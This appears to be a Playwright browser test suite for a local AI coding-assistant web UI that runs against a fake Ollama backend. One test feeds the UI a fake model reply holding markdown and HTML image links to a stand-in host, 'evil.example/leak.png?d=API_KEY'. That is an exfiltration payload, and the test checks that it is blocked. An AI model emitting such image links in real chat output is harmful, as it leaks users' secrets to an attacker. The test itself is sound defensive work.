@@ -1,0 +1,228 @@
+"""The web UI in headless Chromium (Debian's, driven by the playwright package) against the real
+server and the fake Ollama."""
+
+from __future__ import annotations
+
+import time
+from collections.abc import Iterator
+from pathlib import Path
+from typing import Any
+
+import pytest
+from playwright.sync_api import Browser, Page, sync_playwright
+
+from tests.conftest import Layout, free_port
+from tests.fakes.ollama import DONE, FakeOllama
+
+pytestmark = pytest.mark.browser
+
+CHROMIUM = "/usr/bin/chromium"
+FLAGS = [
+    "--headless", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run",
+    "--disable-background-networking", "--disable-component-update", "--disable-sync",
+]  # fmt: skip
+SHOTS = Path(__file__).parent / "screenshots"
+
+# Records every class a trace entry goes through, so a test can see "running" even when
+# the tool finishes within a millisecond.
+TRACE_RECORDER = """
+window.__traceStates = [];
+new MutationObserver((records) => {
+  for (const r of records) {
+    if (r.type === "attributes" && r.target.classList.contains("trace-entry")) {
+      window.__traceStates.push([r.target.dataset.id, r.oldValue || ""], [r.target.dataset.id, r.target.className]);
+    }
+  }
+}).observe(document, { subtree: true, attributes: true, attributeOldValue: true, attributeFilter: ["class"] });
+"""
+
+
+@pytest.fixture(scope="module")
+def browser(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Browser]:
+    with sync_playwright() as playwright:
+        launched = playwright.chromium.launch(executable_path=CHROMIUM, args=FLAGS)
+        yield launched
+        launched.close()
+
+
+@pytest.fixture
+def open_page(browser: Browser) -> Iterator[Any]:
+    contexts = []
+
+    def open_(url: str, width: int = 1280, height: int = 800) -> tuple[Page, list[str]]:
+        context = browser.new_context(viewport={"width": width, "height": height})
+        contexts.append(context)
+        page = context.new_page()
+        requests: list[str] = []
+        page.on("request", lambda request: requests.append(request.url))
+        page.add_init_script(TRACE_RECORDER)
+        page.goto(url + "/")
+        return page, requests
+
+    yield open_
+    for context in contexts:
+        context.close()
+
+
+def ready(page: Page) -> None:
+    page.wait_for_selector("body[data-ready=true]", timeout=15_000)
+
+
+def send(page: Page, text: str) -> None:
+    page.fill("#prompt", text)
+    page.press("#prompt", "Enter")
+
+
+def tool_round(*calls: tuple[str, dict[str, Any]]) -> list[Any]:
+    message = {"role": "assistant", "content": "", "tool_calls": [{"function": {"name": n, "arguments": a}} for n, a in calls]}
+    return [{"message": message}, DONE]
+
+
+def answer(*parts: str, delay: float = 0.0) -> list[Any]:
+    items: list[Any] = []
+    for part in parts:
+        if delay:
+            items.append(delay)
+        items.append({"message": {"role": "assistant", "content": part}})
+    return [*items, DONE]
+
+
+def test_two_tool_calls_trace_then_streamed_answer(layout: Layout, live_server: Any, fake_ollama: FakeOllama, open_page: Any) -> None:
+    server = live_server(layout.repo, ollama_url=fake_ollama.url)
+    fake_ollama.chat_script(
+        tool_round(("search_files", {"query": "main"}), ("read_file", {"path": "src/main.py"})),
+        answer("`main()` returns ", "**42**.\n\n```python\nreturn 42\n```", delay=0.3),
+    )
+    page, _ = open_page(server.url)
+    ready(page)
+    send(page, "What does main return?")
+    page.wait_for_selector(".message.assistant:not(.streaming)", timeout=15_000)
+    entries = page.locator(".trace-entry")
+    assert entries.count() == 2
+    for i, (name, summary) in enumerate([("search_files", "match"), ("read_file", "read lines 1-2 of src/main.py")]):
+        entry = entries.nth(i)
+        assert entry.locator(".tool-name").inner_text() == name
+        assert "completed" in entry.get_attribute("class")
+        assert entry.locator(".status").inner_text() == "completed"
+        assert entry.locator(".duration").inner_text().endswith(" ms")
+        assert summary in entry.locator(".summary").inner_text()
+    assert '"path":"src/main.py"' in entries.nth(1).locator(".args").inner_text()
+    entries.nth(1).locator("summary").click()
+    assert "return 42" in entries.nth(1).locator(".result-text").inner_text()
+    states = page.evaluate("window.__traceStates")
+    for entry_id in {s[0] for s in states}:
+        classes = [s[1] for s in states if s[0] == entry_id]
+        assert "running" in classes[0] and "completed" in classes[-1]
+    body = page.locator(".message.assistant .body")
+    assert body.locator("strong").inner_text() == "42"
+    assert body.locator("pre code.hljs").count() == 1  # highlighted
+    assert body.locator("button.copy").count() == 1
+    SHOTS.mkdir(exist_ok=True)
+    page.screenshot(path=str(SHOTS / "chat-wide.png"))
+
+
+def test_stop_mid_answer_closes_the_stream(layout: Layout, live_server: Any, fake_ollama: FakeOllama, open_page: Any) -> None:
+    server = live_server(layout.repo, ollama_url=fake_ollama.url)
+    fake_ollama.chat_script(answer("one ", "two ", "three ", "four ", delay=1.0))
+    page, _ = open_page(server.url)
+    ready(page)
+    send(page, "count")
+    page.wait_for_selector(".message.assistant .body:has-text('one')", timeout=10_000)
+    assert page.locator("#stop").is_visible()
+    page.click("#stop")
+    page.wait_for_selector(".message.assistant.stopped", timeout=5_000)
+    assert "(stopped)" in page.locator(".message.assistant .body").inner_text()
+    assert page.locator("#send").is_visible()
+    deadline = time.monotonic() + 5
+    while not fake_ollama.disconnects and time.monotonic() < deadline:
+        time.sleep(0.05)
+    assert [what for what, _ in fake_ollama.disconnects] == ["chat"]
+
+
+def test_model_pull_progress_reaches_100(layout: Layout, live_server: Any, fake_ollama: FakeOllama, open_page: Any) -> None:
+    server = live_server(layout.repo, ollama_url=fake_ollama.url)
+    fake_ollama.chunk_delay = 0.1
+    page, _ = open_page(server.url)
+    ready(page)
+    options = page.locator("#model-picker option")
+    assert page.locator("#model-picker").input_value() == "qwen2.5-coder:7b"  # the default is preselected
+    assert "tools" in options.filter(has_text="qwen2.5-coder").inner_text()
+    assert "tools" not in options.filter(has_text="codellama").inner_text()
+    page.click("#pull-open")
+    page.fill("#pull-name", "tinyllama:1b")
+    page.click("#pull-start")
+    page.wait_for_selector("#pull-status:has-text('is ready')", timeout=15_000)
+    assert page.locator("#pull-progress").evaluate("p => p.value") == 100
+    seen = page.evaluate("[...document.querySelectorAll('#model-picker option')].map(o => o.value)")
+    assert "tinyllama:1b" in seen  # the list was refreshed
+
+
+def test_file_browser_opens_a_file(layout: Layout, live_server: Any, fake_ollama: FakeOllama, open_page: Any) -> None:
+    server = live_server(layout.repo, ollama_url=fake_ollama.url)
+    page, _ = open_page(server.url)
+    ready(page)
+    page.click("#file-list >> text=src/")
+    page.click("#file-list >> text=main.py")
+    page.wait_for_selector("#file-preview:not([hidden])")
+    assert page.locator("#preview-name").inner_text() == "src/main.py"
+    assert "return 42" in page.locator("#preview-code").inner_text()
+
+
+def test_ollama_down_error_is_shown_in_plain_words(layout: Layout, live_server: Any, open_page: Any) -> None:
+    server = live_server(layout.repo, ollama_url=f"http://127.0.0.1:{free_port()}")
+    page, _ = open_page(server.url)
+    ready(page)
+    assert "unavailable" in page.locator("#health").inner_text()
+    send(page, "hello?")
+    page.wait_for_selector("#error:not([hidden])", timeout=10_000)
+    text = page.locator("#error").inner_text()
+    assert "not reachable" in text and "(ollama_unavailable)" in text
+
+
+def test_api_key_is_asked_once_and_kept_for_the_tab(layout: Layout, live_server: Any, fake_ollama: FakeOllama, open_page: Any) -> None:
+    server = live_server(layout.repo, ollama_url=fake_ollama.url, api_key="s3cret-key")
+    page, _ = open_page(server.url)
+    page.wait_for_selector("#key-dialog[open]", timeout=10_000)
+    page.fill("#key-input", "s3cret-key")
+    page.click("#key-save")
+    ready(page)
+    assert "connected" in page.locator("#health").inner_text()
+    assert page.locator("#file-list >> text=README.md").count() == 1
+    page.reload()
+    ready(page)  # the key was kept: no second prompt
+    assert not page.locator("#key-dialog").evaluate("d => d.open")
+
+
+def test_remote_markdown_image_is_never_requested(layout: Layout, live_server: Any, fake_ollama: FakeOllama, open_page: Any) -> None:
+    server = live_server(layout.repo, ollama_url=fake_ollama.url)
+    fake_ollama.chat_script(answer("Here: ![secret](http://evil.example/leak.png?d=API_KEY) and <img src='https://evil.example/x.gif'>"))
+    page, requests = open_page(server.url)
+    ready(page)
+    send(page, "show me")
+    page.wait_for_selector(".message.assistant:not(.streaming)", timeout=10_000)
+    time.sleep(0.3)
+    assert not [url for url in requests if "evil.example" in url]
+    assert page.locator(".message.assistant img").count() == 0
+    assert "image not loaded" in page.locator(".message.assistant").inner_text()
+    csp = page.evaluate("fetch('/').then(r => r.headers.get('content-security-policy'))")
+    assert "img-src 'self' data:" in csp
+
+
+def test_enter_sends_shift_enter_adds_a_line_and_narrow_layout(layout: Layout, live_server: Any, fake_ollama: FakeOllama, open_page: Any) -> None:
+    server = live_server(layout.repo, ollama_url=fake_ollama.url)
+    fake_ollama.chat_script(answer("ok"))
+    page, _ = open_page(server.url, width=400, height=800)
+    ready(page)
+    page.click("#prompt")
+    page.keyboard.type("first line")
+    page.keyboard.press("Shift+Enter")
+    page.keyboard.type("second line")
+    assert page.locator("#prompt").input_value() == "first line\nsecond line"
+    page.keyboard.press("Enter")
+    page.wait_for_selector(".message.assistant:not(.streaming)", timeout=10_000)
+    assert page.locator(".message.user").inner_text() == "first line\nsecond line"
+    assert page.evaluate("document.documentElement.scrollWidth") <= 400  # nothing overflows sideways
+    page.click(".tabs >> text=Trace")
+    assert page.locator("#trace-panel").is_visible() and not page.locator("#chat-panel").is_visible()
+    SHOTS.mkdir(exist_ok=True)
+    page.screenshot(path=str(SHOTS / "narrow.png"))
